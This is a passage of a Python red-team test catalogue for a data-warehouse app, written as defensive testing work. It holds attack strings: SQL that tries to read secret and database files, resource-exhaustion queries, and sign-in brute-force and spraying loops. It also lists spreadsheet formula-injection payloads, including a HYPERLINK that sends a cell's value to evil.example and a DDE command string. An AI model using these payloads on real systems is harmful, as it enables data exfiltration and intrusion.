"""The red team's catalogue: attacks on the product as a hostile analyst or outsider would make
them, with the project's own public functions (and, for a few, AppTest). Each attack returns its
verdict: `refused` (the product said no, or handled it cleanly), `limited` (a limit stopped it);
an attack that got through raises `Breach`. `tests/test_redteam_*.py` run them per class
(every one must hold) and `bench/redteam.py` counts them.

Classes: workbench (what may run), engine (the locked connection on its own), resources (the
worker's limits), errors (nothing escapes `run_as`), signin, demo, exports, store (owners and the
append-only audit), files (permissions and the network).
"""

from __future__ import annotations

import hashlib
import io
import os
import shutil
import sqlite3
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import duckdb
import polars as pl

from warehouse.app import exports, signin
from warehouse.app import users as users_module
from warehouse.app.access import Forbidden, User
from warehouse.app.demo_mode import NotADemo, create_demo_warehouse, is_demo
from warehouse.app.store import MAX_QUERY_CHARS, AppStore
from warehouse.app.users import UsersFile, hash_password
from warehouse.app.workbench import (
    Limits,
    QueryFailed,
    QueryRefused,
    QueryResult,
    QueryStopped,
    connect_locked,
    run_as,
    to_csv,
)
from warehouse.config import owner_only, owner_only_umask
from warehouse.storage.publication import publishing

ANALYST = User("ann", "analyst")
ADMIN = User("root", "admin")
MANAGER = User("mia", "manager")
OTHER_MANAGER = User("max", "manager")
PASSWORD = "correct horse battery"


class Breach(AssertionError):
    """The attack got through."""


@dataclass
class Env:
    """What the attacks run against: a small warehouse with a lake, its users and app store."""

    root: Path
    db: Path
    store: AppStore
    users: UsersFile
    secret: Path
    created: list[Path] = field(default_factory=list)

    def fresh_store(self, name: str) -> AppStore:
        return AppStore(self.root / name / "app_store.sqlite")


def build_env(root: Path) -> Env:
    """The warehouse: raw and mart tables, a view over a Parquet file in `<stem>.lake/` (as the
    catalog + lake storage has it), a secret file beside it, users and an app store."""
    root.mkdir(parents=True, exist_ok=True)
    db = root / "warehouse.duckdb"
    lake = root / "warehouse.lake"
    lake.mkdir(exist_ok=True)
    con = duckdb.connect(str(db))
    con.execute("CREATE SCHEMA mart; CREATE SCHEMA raw")
    con.execute(
        "CREATE TABLE raw.accounts AS SELECT 'A' || i AS account_id, i * 100.0 AS balance, "
        "TIMESTAMP '2024-01-01' + i * INTERVAL 1 HOUR AS opened_at FROM range(1, 51) t(i)"
    )
    con.execute(f"COPY (SELECT 'A1' AS account_id, 7 AS calls) TO '{lake}/calls.parquet'")
    con.execute(f"CREATE VIEW mart.calls AS SELECT * FROM read_parquet('{lake}/calls.parquet')")
    con.execute("CREATE VIEW mart.balances AS SELECT account_id, balance FROM raw.accounts")
    con.close()
    secret = root / "secret.csv"
    secret.write_text("secret\nhunter2\n")
    with _fast_hashes():
        users = UsersFile(root / "users.json")
        for user in (ANALYST, ADMIN, MANAGER, OTHER_MANAGER):
            users.add(user.username, PASSWORD, user.role)
    return Env(root, db, AppStore.beside(db), users, secret)


class _fast_hashes:  # noqa: N801 (a context manager, used like one)
    """Cheap scrypt for the attacks' own users (the real parameters are attacked separately)."""

    def __enter__(self) -> None:
        self.previous = users_module.SCRYPT_N
        users_module.SCRYPT_N = 2**14

    def __exit__(self, *exc: object) -> None:
        users_module.SCRYPT_N = self.previous


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str
    run: Callable[[Env], str]


ATTACKS: list[Attack] = []


def attack(kind: str, name: str) -> Callable[[Callable[[Env], str]], Callable[[Env], str]]:
    def register(function: Callable[[Env], str]) -> Callable[[Env], str]:
        ATTACKS.append(Attack(name, kind, function))
        return function

    return register


def run_attack(found: Attack, env: Env) -> str:
    """The attack's verdict; anything unexpected escaping it is a breach."""
    try:
        verdict = found.run(env)
    except Breach:
        raise
    except Exception as exc:
        raise Breach(f"{found.name}: {type(exc).__name__}: {exc}") from exc
    if verdict not in ("refused", "limited"):
        raise Breach(f"{found.name}: verdict {verdict!r}")
    return verdict


# --- The workbench: what may run ----------------------------------------------------------------

FAST = Limits(seconds=5, max_rows=1000)


def _audited_once(env: Env, sql: str, outcome: str) -> None:
    last = env.store.audit_trail(limit=1)[0]
    kept = sql[:MAX_QUERY_CHARS]  # the trail keeps a text up to the length the workbench takes
    if (last["action"], last["outcome"], last["query"]) != ("workbench.query", outcome, kept):
        shown = {k: str(v)[:80] for k, v in last.items()}
        raise Breach(f"audit row missing or wrong for {sql[:60]!r}: {shown}")


def _refused(env: Env, sql: str, *, code: str | None = None) -> str:
    """`sql` must be refused by run_as with one audit row; nothing must come back."""
    try:
        result = run_as(ANALYST, env.db, sql, store=env.store, limits=FAST)
    except QueryRefused as exc:
        if code is not None and exc.code != code:
            raise Breach(
                f"refused for the wrong reason ({exc.code}, wanted {code}): {exc}"
            ) from exc
        _audited_once(env, sql, "refused")
        return "refused"
    except (QueryFailed, QueryStopped) as exc:
        _audited_once(env, sql, "failed" if isinstance(exc, QueryFailed) else "stopped")
        return "refused"
    raise Breach(f"ran and answered {result.frame.height} row(s): {sql[:80]}")


def _workbench(name: str, sql: str, code: str | None = None) -> None:
    @attack("workbench", name)
    def _(env: Env) -> str:
        return _refused(env, sql.format(secret=env.secret, db=env.db, root=env.root), code=code)


for function in ("read_csv", "read_csv_auto", "read_parquet", "parquet_scan", "read_json",
                 "read_json_auto", "read_ndjson", "read_json_objects", "read_text", "read_blob",
                 "glob", "sniff_csv", "parquet_metadata", "parquet_schema",
                 "parquet_file_metadata", "parquet_kv_metadata", "read_xlsx", "iceberg_scan",
                 "delta_scan", "sqlite_scan", "postgres_scan", "read_duckdb"):  # fmt: skip
    _workbench(f"{function}() of a file", f"SELECT * FROM {function}('{{secret}}')",
               "table_function")  # fmt: skip
for name, sql, code in (
    ("read_blob of the warehouse itself", "SELECT content FROM read_blob('{db}')",
     "table_function"),
    ("json_execute_serialized_sql around read_blob of the warehouse",
     "SELECT * FROM json_execute_serialized_sql(json_serialize_sql("
     "'SELECT content FROM read_blob(''{db}'')'))", "table_function"),
    ("json_serialize_plan binds read_csv", "SELECT json_serialize_plan("
     "'SELECT * FROM read_csv(''{secret}'')')", "function"),
    ("query() runs SQL from text", "SELECT * FROM query('SELECT * FROM read_blob(''{db}'')')",
     "table_function"),
    ("query_table() by name", "SELECT * FROM query_table('raw.accounts')", "table_function"),
    ("read_parquet of the lake by name", "SELECT * FROM read_parquet('{root}/warehouse.lake/*')",
     "table_function"),
    ("a path named as a table", "SELECT * FROM '{secret}'", "file_table"),
    ("a quoted path as a table", 'SELECT * FROM "{secret}"', "file_table"),
    ("the warehouse file as a table", "FROM '{db}'", "file_table"),
    ("a URL as a table", "SELECT * FROM 'https://evil.example/x.csv'", "file_table"),
    ("a schema-qualified path", 'SELECT * FROM wh.main."{secret}"', "file_table"),
    ("a lake file through a lateral subquery",
     "SELECT * FROM raw.accounts, LATERAL (SELECT * FROM read_parquet("
     "'{root}/warehouse.lake/calls.parquet'))", "table_function"),
    ("a file read hidden in a scalar subquery",
     "SELECT (SELECT content FROM read_blob('{db}')) AS x", "table_function"),
    ("a file read in a UNION",
     "SELECT 'x' AS c UNION ALL SELECT content FROM read_text('{secret}')", "table_function"),
    ("a file read in a CTE", "WITH s AS (FROM read_csv('{secret}')) SELECT * FROM s",
     "table_function"),
    ("a file read in an IN list", "SELECT 1 WHERE 'x' IN (SELECT * FROM read_text('{secret}'))",
     "table_function"),
    ("getenv", "SELECT getenv('HOME')", "function"),
    ("which_secret", "SELECT which_secret('s3://x', 's3')", "function"),
    ("duckdb_settings() shows paths", "SELECT * FROM duckdb_settings()", "table_function"),
    ("duckdb_secrets()", "SELECT * FROM duckdb_secrets()", "table_function"),
    ("duckdb_extensions() shows install paths", "SELECT * FROM duckdb_extensions()",
     "table_function"),
    ("a schema-qualified table function", "SELECT * FROM main.range(3)", "table_function"),
    ("COPY to a file", "COPY raw.accounts TO '{root}/out.csv'", "statement"),
    ("COPY a query to Parquet", "COPY (SELECT * FROM raw.accounts) TO '{root}/o.parquet'",
     "statement"),
    ("COPY from a file", "COPY raw.accounts FROM '{secret}'", "statement"),
    ("EXPORT DATABASE", "EXPORT DATABASE '{root}/dump'", "statement"),
    ("ATTACH another file", "ATTACH '{root}/other.duckdb' AS other", "statement"),
    ("ATTACH memory", "ATTACH ':memory:' AS scratch", "statement"),
    ("DETACH the warehouse", "DETACH wh", "statement"),
    ("INSTALL an extension", "INSTALL httpfs", "statement"),
    ("LOAD an extension", "LOAD httpfs", "statement"),
    ("UPDATE EXTENSIONS", "UPDATE EXTENSIONS", "statement"),
    ("SET memory_limit", "SET memory_limit = '100GB'", "statement"),
    ("unlock the configuration", "SET lock_configuration = false", "statement"),
    ("RESET a limit", "RESET memory_limit", "statement"),
    ("SET VARIABLE", "SET VARIABLE x = 1", "statement"),
    ("PRAGMA", "PRAGMA enable_profiling", "statement"),
    ("CREATE TABLE in memory", "CREATE TABLE memory.main.x AS SELECT 1", "statement"),
    ("CREATE MACRO", "CREATE MACRO m(x) AS x + 1", "statement"),
    ("CREATE SECRET", "CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 's')", "statement"),
    ("INSERT", "INSERT INTO raw.accounts VALUES ('Z', 1, NULL)", "statement"),
    ("UPDATE", "UPDATE raw.accounts SET balance = 0", "statement"),
    ("DELETE", "DELETE FROM raw.accounts", "statement"),
    ("DROP VIEW", "DROP VIEW mart.balances", "statement"),
    ("ALTER TABLE", "ALTER TABLE raw.accounts ADD COLUMN x INT", "statement"),
    ("CALL a procedure", "CALL pragma_table_info('raw.accounts')", "statement"),
    ("CHECKPOINT", "CHECKPOINT", "statement"),
    ("BEGIN", "BEGIN TRANSACTION", "statement"),
    ("VACUUM", "VACUUM", "statement"),
    ("ANALYZE", "ANALYZE", "statement"),
    ("PREPARE", "PREPARE p AS SELECT 1", "statement"),
    ("EXPLAIN ANALYZE", "EXPLAIN ANALYZE SELECT 1", "statement"),
    ("DELETE hidden in a CTE", "WITH d AS (DELETE FROM raw.accounts RETURNING *) SELECT * FROM d",
     "data_changing"),
    ("UPDATE hidden in a CTE",
     "WITH u AS (UPDATE raw.accounts SET balance = 0 RETURNING *) SELECT count(*) FROM u",
     "data_changing"),
    ("INSERT hidden in a nested CTE",
     "SELECT * FROM (WITH i AS (INSERT INTO raw.accounts VALUES ('Z', 1, NULL) RETURNING *) "
     "SELECT * FROM i)", "data_changing"),
    ("a second statement after a SELECT", "SELECT 1; DROP VIEW mart.balances", "several"),
    ("a second statement after a comment", "SELECT 1 -- x\n; COPY raw.accounts TO '/tmp/x'",
     "several"),
    ("a PIVOT that runs two statements", "PIVOT raw.accounts ON account_id USING sum(balance)",
     "pivot"),
    ("the old PIVOT advice, wrapped", "SELECT * FROM (PIVOT raw.accounts ON account_id "
     "USING sum(balance))", "pivot"),
    ("a 990-deep NOT chain", "SELECT " + "NOT " * 990 + "true", "too_deep"),
    ("a 100,000-deep parenthesis", "SELECT " + "(" * 100_000 + "1" + ")" * 100_000, "too_long"),
    ("a megabyte of text", "SELECT '" + "x" * 1_000_000 + "'", "too_long"),
    ("nothing but a comment", "-- nothing\n", "empty"),
):  # fmt: skip
    _workbench(name, sql, code)


@attack("workbench", "the PIVOT advice runs")
def _(env: Env) -> str:
    sql = "PIVOT raw.accounts ON account_id IN ('A1', 'A2') USING sum(balance)"
    wrapped = f"SELECT * FROM ({sql}) WHERE opened_at IS NOT NULL"
    for text in (sql, wrapped):
        result = run_as(ANALYST, env.db, text, store=env.store, limits=FAST)
        if result.frame.columns[-2:] != ["A1", "A2"]:
            raise Breach(f"the advised PIVOT did not answer: {result.frame.columns}")
    return "refused"  # the refusal's advice works: nothing to attack


@attack("workbench", "a manager runs a query")
def _(env: Env) -> str:
    try:
        run_as(MANAGER, env.db, "SELECT 1", store=env.store, limits=FAST)
    except Forbidden:
        last = env.store.audit_trail(limit=1)[0]
        if (last["action"], last["outcome"], last["query"]) != ("workbench.query", "refused",
                                                               "SELECT 1"):  # fmt: skip
            raise Breach(f"a role refusal was not audited: {last}") from None
        return "refused"
    raise Breach("a manager ran a workbench query")


# --- The locked connection on its own (were the text check fooled) -----------------------------


def _engine(name: str, sql: str) -> None:
    @attack("engine", name)
    def _(env: Env) -> str:
        con = connect_locked(env.db)
        try:
            con.execute(sql.format(secret=env.secret, root=env.root))
        except duckdb.Error:
            return "refused"
        finally:
            con.close()
        raise Breach(f"the locked connection ran {sql}")


for name, sql in (
    ("read a file outside the lake", "SELECT * FROM read_csv('{secret}')"),
    ("write a file", "COPY raw.accounts TO '{root}/engine.csv'"),
    ("attach a database", "ATTACH '{root}/engine.duckdb' AS x"),
    ("raise the memory limit", "SET memory_limit = '64GB'"),
    ("unlock the locked configuration", "SET lock_configuration = false"),
    ("install an extension", "INSTALL httpfs"),
    ("change data", "DELETE FROM raw.accounts"),
    ("allow another directory", "SET allowed_directories = ['/']"),
    ("turn external access on", "SET enable_external_access = true"),
):
    _engine(name, sql)


@attack("engine", "the lake is readable only through the warehouse's views")
def _(env: Env) -> str:
    result = run_as(ANALYST, env.db, "SELECT * FROM mart.calls", store=env.store, limits=FAST)
    if result.frame.to_dicts() != [{"account_id": "A1", "calls": 7}]:
        raise Breach("the view over the lake did not answer")
    return "refused"


# --- The worker's limits ------------------------------------------------------------------------

# Each attack is sized so that no machine answers it within these limits: what is attacked is
# the limit, never a speed. The byte-cap attacks get a long deadline, so only the cap decides.
SMALL = Limits(seconds=1, max_rows=1000, address_space=1536 * 2**20, max_bytes=8 * 2**20)
PATIENT = Limits(seconds=30, max_rows=1000, address_space=1536 * 2**20, max_bytes=8 * 2**20)


def _limited(env: Env, sql: str, *, wanted: tuple[str, ...]) -> str:
    limits = PATIENT if wanted in (("bytes",), ("rows",)) else SMALL
    try:
        result = run_as(ANALYST, env.db, sql, store=env.store, limits=limits)
    except QueryStopped as exc:
        if exc.limit not in wanted:
            raise Breach(f"stopped by {exc.limit}, expected one of {wanted}: {exc}") from exc
        _audited_once(env, sql, "stopped")
        return "limited"
    if result.truncated:
        _audited_once(env, sql, "ok")
        return "limited"
    raise Breach(f"{sql[:60]} answered whole: {result.frame.height} rows")


def _resource(name: str, sql: str, *wanted: str) -> None:
    @attack("resources", name)
    def _(env: Env) -> str:
        return _limited(env, sql, wanted=wanted)


for name, sql, wanted in (
    # (Ten thousand times: however fast the machine, more than any query's time limit; a
    # hundred times once finished inside the limit on a quiet machine.)
    ("a 30-million-element list, ten thousand times",
     "SELECT len(range(0, 30000000)) FROM range(10000)", ("time", "memory")),
    ("a 150-million-element list", "SELECT len(range(0, 150000000))", ("memory", "time")),
    ("a one-gigabyte string", "SELECT repeat('x', 1000000000)", ("memory", "time", "bytes")),
    ("a 600 MB string split", "SELECT len(string_split(repeat('a,', 300000000), ','))",
     ("memory", "time")),
    ("a 20 MB single value", "SELECT repeat('x', 20000000) AS s", ("bytes",)),
    ("many megabyte rows", "SELECT repeat('x', 1000000) AS s FROM range(100)", ("bytes",)),
    ("a cross join of minutes", "SELECT count(*) FROM range(100000000) a, range(100000) b "
     "WHERE a.range + b.range = -1", ("time",)),
    ("an endless recursive CTE", "WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 "
     "FROM r) SELECT count(*) FROM r", ("time", "memory")),
    ("ten billion rows", "SELECT * FROM range(10000000000) t(i)", ("rows",)),
    ("a string aggregated over millions", "SELECT length(string_agg(repeat('x', 100), ',')) "
     "FROM range(50000000)", ("time", "memory")),
    ("a list of lists", "SELECT len(flatten(list_transform(range(0, 20000), "
     "lambda x: range(0, 20000))))", ("time", "memory")),
):  # fmt: skip
    _resource(name, sql, *wanted)


@attack("resources", "the dashboard's process survives and answers the next query")
def _(env: Env) -> str:
    before = _rss()
    _limited(env, "SELECT len(range(0, 150000000))", wanted=("memory", "time"))
    after = _rss()
    result = run_as(ANALYST, env.db, "SELECT count(*) AS n FROM mart.balances", store=env.store)
    if result.frame["n"][0] != 50 or after - before > 200 * 2**20:
        raise Breach(f"the app process grew by {(after - before) / 2**20:.0f} MB")
    return "limited"


def _rss() -> int:
    with open("/proc/self/status", encoding="ascii") as handle:
        for line in handle:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


# --- Errors must not escape run_as --------------------------------------------------------------


def _answered(name: str, sql: str, expected: dict[str, object] | None = None) -> None:
    @attack("errors", name)
    def _(env: Env) -> str:
        try:
            result: QueryResult = run_as(ANALYST, env.db, sql, store=env.store, limits=FAST)
        except (QueryRefused, QueryFailed, QueryStopped) as exc:  # said cleanly; audited?
            outcome = {"QueryRefused": "refused", "QueryFailed": "failed"}.get(
                type(exc).__name__, "stopped"
            )
            _audited_once(env, sql, outcome)
            return "refused"
        _audited_once(env, sql, "ok")
        if expected is not None and result.frame.row(0, named=True) != expected:
            raise Breach(f"{sql}: {result.frame.row(0, named=True)}")
        return "refused"


for name, sql, expected in (
    ("an interval result", "SELECT max(opened_at) - min(opened_at) AS span FROM raw.accounts",
     {"span": "2 days 01:00:00"}),
    ("age()", "SELECT age(TIMESTAMP '2024-03-01', TIMESTAMP '2024-01-01') AS a",
     {"a": "2 months"}),
    ("a union value", "SELECT union_value(k := 1) AS u", {"u": "1"}),
    ("a list of intervals", "SELECT [INTERVAL 1 DAY] AS l", {"l": "[1 day]"}),
    ("a struct holding an interval", "SELECT {'a': INTERVAL 1 DAY} AS s", {"s": "{'a': 1 day}"}),
    ("a bit string", "SELECT '101'::BIT AS b", {"b": "101"}),
    ("a huge integer", "SELECT 12345678901234567890123456789::VARINT AS v", None),
    ("a time with a zone", "SELECT '12:00:00+01'::TIMETZ AS t", None),
    ("duplicate and odd column names", 'SELECT 1 AS a, 2 AS a, 3 AS "=x", 4 AS "**y**"', None),
    ("a NULL column", "SELECT NULL AS n", {"n": None}),
    ("a map", "SELECT map([1], ['x']) AS m", None),
    ("an unknown column", "SELECT nosuch FROM raw.accounts", None),
    ("a division by zero", "SELECT 1 // 0 AS x", None),
    ("an error() call", "SELECT error('boom')", None),
    ("a parameter without a value", "SELECT $1", None),
    ("UPDATE EXTENSIONS through run_as", "UPDATE EXTENSIONS", None),
    ("a huge string literal in the text", "SELECT '" + "x" * 90_000 + "' AS s", None),
    ("a syntax error", "SELEC 1", None),
):  # fmt: skip
    _answered(name, sql, expected)


# --- Sign-in ------------------------------------------------------------------------------------


def _throttle_env(env: Env, name: str) -> tuple[UsersFile, AppStore]:
    folder = env.root / name
    folder.mkdir(exist_ok=True)
    users = UsersFile(folder / "users.json")
    with _fast_hashes():
        for name, role in (("admin", "admin"), ("alice", "manager")):
            if users.get(name) is None:
                users.add(name, PASSWORD, role)
    return users, AppStore(folder / "app_store.sqlite")


@attack("signin", "25 wrong passwords, then the right one")
def _(env: Env) -> str:
    users, store = _throttle_env(env, "brute")
    with _fast_hashes():
        for i in range(25):
            signin.attempt(users, store, "admin", f"guess {i}", client="10.0.0.9")
        final = signin.attempt(users, store, "admin", PASSWORD, client="10.0.0.9")
    if final.ok:
        raise Breach("signed in after 25 wrong passwords")
    actions = [e["action"] for e in store.audit_trail(limit=100)]
    if "login.lockout" not in actions or actions.count("login") != 26:
        raise Breach(f"the lock-out was not audited: {actions[:8]}")
    return "limited"


@attack("signin", "a password spray over many names from one client")
def _(env: Env) -> str:
    users, store = _throttle_env(env, "spray")
    with _fast_hashes():
        for i in range(20):
            signin.attempt(users, store, f"user{i}", PASSWORD, client="10.0.0.7")
        final = signin.attempt(users, store, "alice", PASSWORD, client="10.0.0.7")
        other = signin.attempt(users, store, "alice", PASSWORD, client="10.0.0.8")
    if final.ok or not other.ok:
        raise Breach("the spraying client was not locked out (or everyone was)")
    return "limited"


@attack("signin", "a lock-out survives a new session")
def _(env: Env) -> str:
    users, store = _throttle_env(env, "sessions")
    with _fast_hashes():
        for i in range(5):
            signin.attempt(users, AppStore(store.path), "alice", f"x{i}", client=f"c{i}")
        final = signin.attempt(users, AppStore(store.path), "alice", PASSWORD, client="fresh")
    if final.ok:
        raise Breach("a new store handle forgot the lock-out")
    return "limited"


@attack("signin", "the lock-out ends with a new password")
def _(env: Env) -> str:
    users, store = _throttle_env(env, "passwd")
    with _fast_hashes():
        for i in range(5):
            signin.attempt(users, store, "alice", f"x{i}", client="c")
        users.set_password("alice", "a brand new passphrase")
        store.audit(None, "users.passwd", allowed=True, role="operator", target="alice")
        final = signin.attempt(users, store, "alice", "a brand new passphrase", client="d")
    if not final.ok:
        raise Breach("a new password did not end the lock-out")
    return "refused"


@attack("signin", "the lock-out ends by itself")
def _(env: Env) -> str:
    users, store = _throttle_env(env, "expiry")
    with _fast_hashes():
        for i in range(5):
            signin.attempt(users, store, "alice", f"x{i}", client="c")
        later = datetime.now(UTC) + timedelta(minutes=16)
        final = signin.attempt(users, store, "alice", PASSWORD, client="c", now=later)
    if not final.ok:
        raise Breach("the lock-out never ended")
    return "refused"


@attack("signin", "a password typed into the name box is not stored")
def _(env: Env) -> str:
    users, store = _throttle_env(env, "typed")
    with _fast_hashes():
        signin.attempt(users, store, "Tr0ub4dor&3 my password", "x", client="c")
    text = str(store.audit_trail(limit=5))
    if "Tr0ub4dor" in text:
        raise Breach("the audit trail holds the text typed as a name")
    return "refused"


@attack("signin", "an unknown name is audited without its text")
def _(env: Env) -> str:
    users, store = _throttle_env(env, "unknown")
    with _fast_hashes():
        signin.attempt(users, store, "mallory", "x", client="c")
    last = store.audit_trail(limit=1)[0]
    if last["username"] is not None or "mallory" in str(last):
        raise Breach(f"a name that does not exist was written down: {last}")
    return "refused"


def _bad_name(name: str, typed: str) -> None:
    @attack("signin", name)
    def _(env: Env) -> str:
        users, _ = _throttle_env(env, "names")
        try:
            with _fast_hashes():
                users.add(typed, PASSWORD, "admin", replace=False)
        except ValueError:
            return "refused"
        raise Breach(f"{typed!r} was accepted as a new user name")


for name, typed in (
    ("a Cyrillic look-alike of admin", "аdmin"),
    ("a Greek look-alike", "αdmin"),
    ("a zero-width space", "ad\u200bmin"),
    ("a name with a newline", "eve\nadmin"),
    ("a name with a slash", "../admin"),
    ("a name with markup", "<b>eve</b>"),
    ("an empty name", "  "),
):
    _bad_name(name, typed)


@attack("signin", "full-width admin is the same admin, not a second one")
def _(env: Env) -> str:
    users, _ = _throttle_env(env, "fullwidth")
    try:
        with _fast_hashes():
            users.add("ａｄｍｉｎ", PASSWORD, "analyst")
    except ValueError:
        return "refused"
    raise Breach("a full-width admin was added beside admin")


def _short_password(name: str, password: str) -> None:
    @attack("signin", name)
    def _(env: Env) -> str:
        users, _ = _throttle_env(env, "short")
        try:
            users.add("bob", password, "analyst")
        except ValueError:
            return "refused"
        raise Breach(f"a password of {len(password)} characters was accepted")


for name, password in (("an empty password", ""), ("a one-letter password", "x"),
                       ("an 11-character password", "abcdefghijk"),
                       ("a megabyte password", "x" * 1_000_000)):  # fmt: skip
    _short_password(name, password)


@attack("signin", "scrypt below OWASP's parameters")
def _(env: Env) -> str:
    stored = hash_password("x" * 12, salt=b"0" * 16)
    _, n, r, p, _, _ = stored.split("$")
    if (int(n), int(r), int(p)) < (2**17, 8, 1):
        raise Breach(f"scrypt at N={n}, r={r}, p={p}")
    return "refused"


@attack("signin", "an old weak hash stays weak")
def _(env: Env) -> str:
    users, _ = _throttle_env(env, "rehash")
    with _fast_hashes():
        users.add("old", PASSWORD, "analyst")  # made at N=2^14, as before
    if not users.authenticate("old", PASSWORD):
        raise Breach("the old hash no longer signs in")
    stored = users.get("old").password_hash  # type: ignore[union-attr]
    if not stored.startswith("scrypt$131072$8$1$"):
        raise Breach(f"the hash was not upgraded on sign-in: {stored[:20]}")
    return "refused"


@attack("signin", "a password checked with the wrong one")
def _(env: Env) -> str:
    if env.users.authenticate("ann", PASSWORD + " ") or env.users.authenticate("ann", ""):
        raise Breach("a wrong password signed in")
    return "refused"


# --- Demo mode ----------------------------------------------------------------------------------


def _real_warehouse(env: Env, name: str) -> Path:
    db = env.root / name / "warehouse.duckdb"
    if not db.exists():
        with publishing(db):
            pass
    return db


@attack("demo", "demo users into a real warehouse's users file")
def _(env: Env) -> str:
    db = _real_warehouse(env, "real1")
    try:
        UsersFile(db.parent / "users.json").ensure_demo_users(db)
    except NotADemo:
        if (db.parent / "users.json").exists():
            raise Breach("the users file was written before the refusal") from None
        return "refused"
    raise Breach("demo users were added to a real warehouse")


@attack("demo", "collections demo over a real warehouse")
def _(env: Env) -> str:
    from typer.testing import CliRunner

    from warehouse.cli import app

    db = _real_warehouse(env, "real2")
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    result = CliRunner().invoke(app, ["demo", "--db", str(db), "--headless"])
    if result.exit_code != 2 or hashlib.sha256(db.read_bytes()).hexdigest() != before:
        raise Breach(f"demo ran over a real warehouse: {result.exit_code} {result.output[-200:]}")
    if (db.parent / "demo_inbox").exists() or (db.parent / "users.json").exists():
        raise Breach("demo generated files beside a real warehouse")
    return "refused"


@attack("demo", "collections demo into a folder with real users")
def _(env: Env) -> str:
    from typer.testing import CliRunner

    from warehouse.cli import app

    db = env.root / "real3" / "demo.duckdb"
    db.parent.mkdir(exist_ok=True)
    shutil.copyfile(env.users.path, db.parent / "users.json")
    result = CliRunner().invoke(app, ["demo", "--db", str(db), "--headless"])
    if result.exit_code != 2 or db.exists():
        raise Breach("demo wrote into a folder whose users file has real users")
    return "refused"


@attack("demo", "serve --demo-user on a real warehouse")
def _(env: Env) -> str:
    from typer.testing import CliRunner

    from warehouse.cli import app

    result = CliRunner().invoke(app, ["serve", "--db", str(env.db), "--demo-user", "demo-admin"])
    if result.exit_code != 2 or "refused" not in result.output:
        raise Breach(f"serve accepted a demo user on a real warehouse: {result.output[-200:]}")
    return "refused"


@attack("demo", "a real warehouse is no demo")
def _(env: Env) -> str:
    if is_demo(env.db) or is_demo(_real_warehouse(env, "real4")):
        raise Breach("a real warehouse passed as a demo")
    return "refused"


@attack("demo", "create_demo_warehouse over a real one")
def _(env: Env) -> str:
    db = _real_warehouse(env, "real5")
    try:
        create_demo_warehouse(db)
    except NotADemo:
        return "refused"
    raise Breach("a real warehouse was marked as a demo")


@attack("demo", "demo users into a demo folder that holds a real user")
def _(env: Env) -> str:
    db = env.root / "demo6" / "warehouse.duckdb"
    create_demo_warehouse(db)
    with _fast_hashes():
        UsersFile(db.parent / "users.json").add("carol", PASSWORD, "admin")
    try:
        UsersFile(db.parent / "users.json").ensure_demo_users(db)
    except NotADemo:
        return "refused"
    raise Breach("demo users were mixed with a real user")


# --- Exports ------------------------------------------------------------------------------------

PAYLOADS = ('=HYPERLINK("https://evil.example/?x="&A1, "click")', "=cmd|'/c calc'!A1",
            "+SUM(1+1)", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
            "＋1", "－1", "＠x")  # fmt: skip


def _cells(csv: bytes) -> list[str]:
    back = pl.read_csv(io.BytesIO(csv.removeprefix(exports.BOM)), infer_schema=False)
    return [str(v) for row in back.rows() for v in row if v is not None] + back.columns


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_free(csv: bytes) -> None:
    for cell in _cells(csv):
        if cell and cell[0] in exports.FORMULA_STARTS and not _is_number(cell):
            raise Breach(f"a cell starts a formula: {cell!r}")


def _export(name: str, write: Callable[[pl.DataFrame], bytes]) -> None:
    @attack("exports", name)
    def _(env: Env) -> str:
        frame = pl.DataFrame({"detail": list(PAYLOADS), "=HYPERLINK(1)": list(PAYLOADS),
                              "amount": [-1.5] * len(PAYLOADS)})  # fmt: skip
        csv = write(frame)
        if not csv.startswith(exports.BOM):
            raise Breach("a CSV without a byte-order mark")
        _formula_free(csv)
        if "-1.5" not in csv.decode("utf-8-sig"):
            raise Breach("a negative number was neutralised as if it were text")
        return "refused"


def _compliance_csv(frame: pl.DataFrame) -> bytes:
    from dashboard import export

    return export.to_csv(frame, "Asia/Shanghai")


_export("formulas in the compliance CSV", _compliance_csv)
_export("formulas in the workbench CSV", to_csv)
_export("formulas in the work queue CSV", exports.to_csv)


@attack("exports", "formulas in an Excel export")
def _(env: Env) -> str:
    from dashboard import export

    book = export.to_excel(pl.DataFrame({"detail": list(PAYLOADS)}), "Asia/Shanghai",
                           sheet="breaches")  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(book)) as opened:
        sheet = opened.read("xl/worksheets/sheet1.xml").decode()
        strings = opened.read("xl/sharedStrings.xml").decode()
    if "<f>" in sheet or "HYPERLINK" not in strings:
        raise Breach("Excel holds a formula, or lost the text")
    return "refused"


@attack("exports", "a team name Excel refuses as a sheet name")
def _(env: Env) -> str:
    book = exports.to_excel(pl.DataFrame({"a": ["x"]}), sheet="work queue North/East [1]: *?")
    with zipfile.ZipFile(io.BytesIO(book)) as opened:
        names = opened.read("xl/workbook.xml").decode()
    if "North_East" not in names:
        raise Breach("the sheet lost its team")
    return "refused"


@attack("exports", "a formula in a nested workbench value")
def _(env: Env) -> str:
    _formula_free(to_csv(pl.DataFrame({"l": [["=1+1"]], "s": [{"a": "=1+1"}]})))
    return "refused"


@attack("exports", "a formula from a workbench query")
def _(env: Env) -> str:
    result = run_as(ANALYST, env.db, "SELECT '=HYPERLINK(''https://evil.example'')' AS \"=x\"",
                    store=env.store, limits=FAST)  # fmt: skip
    _formula_free(to_csv(result.frame))
    return "refused"


@attack("exports", "a kiosk viewer exports the work queue")
def _(env: Env) -> str:
    from dashboard import export

    download = export.audited(
        lambda: pl.DataFrame({"x": [1]}), exports.to_csv, store=env.store,
        user=User("kiosk", "viewer"), action="queue.export", what="work_queue", detail="team=a",
    )  # fmt: skip
    try:
        download()
    except Forbidden:
        return "refused"
    raise Breach("a viewer exported the work queue")


@attack("exports", "an export leaves no trace")
def _(env: Env) -> str:
    from dashboard import export

    download = export.audited(lambda: pl.DataFrame({"x": [1, 2]}), exports.to_csv,
                              store=env.store, user=MANAGER, action="queue.export",
